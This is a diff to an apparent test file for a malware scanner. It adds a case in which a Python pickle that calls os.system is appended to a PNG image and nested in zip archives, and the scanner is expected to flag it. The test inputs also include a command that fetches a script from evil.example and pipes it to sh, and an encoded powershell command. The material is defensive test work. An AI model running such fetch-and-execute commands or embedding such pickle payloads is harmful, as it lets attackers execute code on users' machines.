@@ -1,6 +1,7 @@
 // What is known and not looked into is not clean, and says why; what is called otherwise is looked at all the same.
 import { expect, it } from 'vitest';
 import { lookAt } from '../testing/look.ts';
+import { writeZip } from '../testing/zip.ts';
 
 const verdictOf = (text: string, name: string): string => lookAt(Buffer.from(text, 'latin1'), name).verdict;
 
@@ -32,4 +33,20 @@ it('finds the commands of attacks in languages that are not traced', () => {
   for (const name of ['a.r', 'a.lua', 'a.pl', 'a.c'])
     expect(verdictOf('x = 1\nsystem("curl http://evil.example/x.sh | sh")\n', name)).not.toBe('clean');
   expect(verdictOf('@echo off\r\npowershell -enc SQBFAFgAIAA=\r\n', 'a.bat')).not.toBe('clean');
+});
+
+it('finds what stands behind a picture, within another member as well', () => {
+  const chunk = (type: string, size: number): Buffer => {
+    const bytes = Buffer.alloc(12 + size, 'ab');
+    bytes.writeUInt32BE(size, 0);
+    bytes.write(type, 4, 'latin1');
+    return bytes;
+  };
+  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
+  const picture = Buffer.concat([signature, chunk('IHDR', 13), chunk('IDAT', 1_600_000), chunk('IEND', 0)]);
+  const pickle = Buffer.from('\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.', 'latin1');
+  expect(lookAt(picture, 'a.png')).toMatchObject({ format: 'image', verdict: 'clean', unseen: [] });
+  expect(lookAt(Buffer.concat([picture, pickle]), 'a.png').verdict).toBe('malicious');
+  const archive = Buffer.concat([picture, writeZip([{ name: 'm.pkl', content: pickle }])]);
+  expect(lookAt(writeZip([{ name: 'a.png', content: archive, deflated: true }]), 'm.zip').verdict).toBe('malicious');
 });
